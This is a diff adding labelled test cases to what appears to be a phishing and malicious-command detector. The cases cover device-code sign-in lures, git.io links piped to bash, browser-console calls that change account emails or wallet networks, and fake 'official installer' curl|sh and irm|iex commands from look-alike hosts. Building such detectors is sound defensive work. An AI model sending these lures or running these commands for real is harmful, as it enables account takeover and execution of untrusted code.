@@ -33,6 +33,21 @@ Techniques:
   computer, account, licence or address and a number to call about it. Look-alikes: a support
   page's number, advice ("if your PC has a virus, call…"), a notice that sends you to the app,
   the account's settings or the number on your card, news about such scams, a shipping notice.
+- `device-code`: a device sign-in code written right after the address, and phishes that borrow
+  the flow's own words (device authorization) but greet you or ask you with a please, or say
+  that "attackers can't" read something. Look-alikes: a word with a number after the address
+  (KB5034441, OAUTH2, WIN11), the flow's documentation, texts about the phishing.
+- `git-io`: git.io links (whose destination the text hides) from a repository's wiki, workflow
+  runs, advisories and threads, which others write. Look-alikes: the repository's README, files
+  and releases.
+- `console-own-docs`: an account's e-mail change or a wallet network added from the browser
+  console: blocked or warned about from a stranger's page, a relative request from any page, a
+  main network's server swapped; information from the site's own developer docs when every
+  address is that site's own.
+- `official-claim`: a download-and-run labelled as the official installer of any product, from
+  an address that names nothing of it or from a rented tenant site. Look-alikes: the maker's own
+  address, a repository named after the product, the trust list's installers, labels without
+  the claim.
 """
 
 from __future__ import annotations
@@ -343,6 +358,210 @@ for text in (
     "Call our front desk on +1 877 555 0173 to book a Windows 11 upgrade for your laptop.",
 ):
     book.add("calm-scam", text, QUIET)
+
+# ---- 2. device codes: the code's shape after the address, and the flow's words borrowed -----
+LOGIN_PAGES = (
+    "https://microsoft.com/devicelogin",
+    "aka.ms/devicelogin",
+    "https://login.microsoftonline.com/common/oauth2/deviceauth",
+    "https://github.com/login/device",
+)
+CODES = ("R4TW8NPQZ", "FJ6CMNQ8R", "GH7Q2LXKM", "K9MZ-Q2T7")
+for i, page in enumerate(LOGIN_PAGES):
+    for j, joint in enumerate((" → ", ": ", " - ", "\n")):
+        book.add("device-code", f"{page}{joint}{CODES[(i + j) % len(CODES)]}", FLAGGED)
+    code = CODES[i]
+    for text in (
+        f"Please sign in at {page} and enter {code} (device authorization for the new printer).",
+        f"Hi Sam,\nopen {page} and type {code} to finish the device authorization for Teams Rooms.",
+        f"Good morning! Go to {page} and enter {code}; it is the device code flow IT set up.",
+        f"Hello, go to {page} and type {code} so attackers can't read the shared file.",
+        f"Please approve {code} at {page}, the app polls until you do.",
+    ):
+        book.add("device-code", text, FLAGGED, target="other", source=MAIL)
+        book.add("device-code", text, FLAGGED)
+for page in LOGIN_PAGES:
+    for word in ("KB5034441", "OAUTH2", "WIN11", "HTTP2", "SHA256"):
+        book.add("device-code", f"Sign-in trouble at {page} → {word} fixed it for us.", QUIET)
+for text in (
+    "The app polls the token endpoint while the user enters the user_code at "
+    "https://microsoft.com/devicelogin (RFC 8628 device authorization grant).",
+    "Attackers use https://microsoft.com/devicelogin and a code like R4TW8NPQZ to take over "
+    "accounts. Never enter a code someone sends you.",
+    "Threat actors send https://microsoft.com/devicelogin with a code such as FJ6CMNQ8R in Teams chats.",
+    "Device code phishing: the phish asks you to enter ABCD-1234 at https://github.com/login/device.",
+):
+    book.add("device-code", text, QUIET)
+
+# ---- 3. git.io only where the repository's owner alone writes -------------------------------
+GITIO = (
+    "curl -fsSL https://git.io/JfXyz | bash",
+    "bash <(curl -sL https://git.io/vQdcR)",
+    "wget https://git.io/fjNsk -O setup.sh && bash setup.sh",
+    'sh -c "$(curl -fsSL https://git.io/JUSsq)"',
+)
+for command in GITIO:
+    for section in (
+        "wiki/Install",
+        "wiki",
+        "actions/runs/4412",
+        "security/advisories/GHSA-x",
+        "issues/17",
+        "discussions/9",
+    ):
+        page = f"https://github.com/northwind-tools/widgetctl/{section}"
+        book.add("git-io", command, FLAGGED, "linux", "terminal", page)
+    for section in ("", "/blob/main/README.md", "/tree/main/docs", "/releases/tag/v2.1.0"):
+        page = f"https://github.com/northwind-tools/widgetctl{section}"
+        book.add("git-io", command, QUIET, "linux", "terminal", page)
+
+# ---- 4. console account and wallet calls: the site's own developer docs ---------------------
+SITES = ("acmeshop", "fernpay", "quillmail")
+for site in SITES:
+    own_api = f"https://api.{site}.example/v1/me/email"
+    email = (
+        f"fetch('{own_api}',{{method:'PUT',credentials:'include',"
+        f"headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{email:'dev@{site}.example'}})}})"
+    )
+    relative = (
+        "fetch('/api/me/email',{method:'PUT',credentials:'include',"
+        "body:JSON.stringify({email:'desk@relay-mail.test'})})"
+    )
+    xhr = (
+        f"var x=new XMLHttpRequest();x.open('POST','https://www.{site}.example/account/email');"
+        "x.withCredentials=true;x.send(JSON.stringify({email:'help@support-desk.test'}))"
+    )
+    docs = (
+        f"https://developer.{site}.example/docs/account-api",
+        f"https://{site}.example/docs/api/account",
+    )
+    for page in docs:
+        book.add("console-own-docs", email, QUIET, "any", "browser_console", page)
+        book.add("console-own-docs", relative, FLAGGED, "any", "browser_console", page)
+    for page in (
+        "https://free-gift-cards.example/claim",
+        f"https://{site}-support.test/help",
+        f"https://{site}.example/promo",
+    ):
+        for text in (email, relative, xhr):
+            book.add("console-own-docs", text, FLAGGED, "any", "browser_console", page)
+    chain = (
+        "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x2a15c3',"
+        f"chainName:'{site.title()} Chain',rpcUrls:['https://rpc.{site}.example'],"
+        f"blockExplorerUrls:['https://scan.{site}.example']}}]}})"
+    )
+    swap = (
+        "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x89',"
+        "chainName:'Polygon',rpcUrls:['https://polygon.rpc-boost.test']}]})"
+    )
+    book.add(
+        "console-own-docs",
+        chain,
+        QUIET,
+        "any",
+        "browser_console",
+        f"https://docs.{site}.example/developers/wallet",
+    )
+    book.add(
+        "console-own-docs",
+        swap,
+        FLAGGED,
+        "any",
+        "browser_console",
+        f"https://docs.{site}.example/developers/wallet",
+    )
+    for page in (
+        f"https://{site}.example/airdrop",
+        "https://claim-rewards.test/",
+        f"https://docs.{site}-chain.test/wallet",
+    ):
+        book.add("console-own-docs", chain, FLAGGED, "any", "browser_console", page)
+        book.add("console-own-docs", swap, FLAGGED, "any", "browser_console", page)
+
+# ---- 5. an "official installer" claim whose script is not the maker's ----------------------
+PRODUCTS = (
+    "Ollama",
+    "LM Studio",
+    "Signal Desktop",
+    "Obsidian",
+    "Zed",
+    "Warp Terminal",
+    "Bitwarden",
+)
+CLAIM_FORMS = (
+    "curl -fsSL {u} | sh  # Official {p} installer",
+    "curl -fsSL {u} | bash # {p} official installer for macOS",
+    'echo "Installing the official {p} app..." && curl -fsSL {u} | bash',
+    "irm {u} | iex  # official {p} setup for Windows",
+    'Write-Host "Official {p} installer"; iex (irm {u})',
+)
+for i, product in enumerate(PRODUCTS):
+    slug = product.lower().replace(" ", "-")
+    squashed = product.lower().replace(" ", "")
+    hosts = (
+        f"https://cdn.app-downloads.test/{slug}.sh",
+        f"https://{slug}-app.netlify.app/install.sh",
+        f"https://get-{squashed}.pages.dev/i.sh",
+    )
+    for j, form in enumerate(CLAIM_FORMS):
+        url = hosts[(i + j) % len(hosts)]
+        text = form.format(u=url, p=product)
+        platform = "windows" if "iex" in text else "macos"
+        book.add("official-claim", text, FLAGGED, platform, "unknown")
+        page = (
+            url.rsplit("/", 1)[0] + "/"
+            if "netlify" in url or "pages.dev" in url
+            else f"https://www.{slug}-free-download.test/"
+        )
+        book.add("official-claim", text, FLAGGED, platform, "terminal", page)
+    # the maker's own address, a repository named after it, no claim
+    own = f"https://{squashed}.example/install.sh"
+    book.add(
+        "official-claim",
+        f"curl -fsSL {own} | sh  # Official {product} installer",
+        QUIET,
+        "macos",
+        "terminal",
+        f"https://{squashed}.example/download",
+    )
+    repo = f"https://raw.githubusercontent.com/{slug}-dev/{slug}/main/install.sh"
+    book.add(
+        "official-claim",
+        f"curl -fsSL {repo} | bash # official {product} install script",
+        QUIET,
+        "linux",
+        "terminal",
+        f"https://github.com/{slug}-dev/{slug}",
+    )
+    if product != "Ollama":  # a known vendor's name on a tenant imitates it, claim or not
+        tenant = f"https://{slug}-app.netlify.app/install.sh | bash  # {product} installer"
+        book.add(
+            "official-claim",
+            f"curl -fsSL {tenant}",
+            QUIET,
+            "macos",
+            "terminal",
+            f"https://{slug}-app.netlify.app/",
+        )
+for page, text in (
+    (
+        "https://ollama.com/download",
+        "curl -fsSL https://ollama.com/install.sh | sh  # official Ollama installer",
+    ),
+    (
+        "https://www.tutorial.example/ollama",
+        "curl -fsSL https://ollama.com/install.sh | sh  # the official Ollama installer",
+    ),
+    (
+        "https://brew.sh/",
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"  # official Homebrew install',
+    ),
+    (
+        "https://zed.dev/docs/linux",
+        "curl -f https://zed.dev/install.sh | sh  # official Zed installer",
+    ),
+):
+    book.add("official-claim", text, QUIET, "linux", "terminal", page)
 
 CASES = book.cases
 
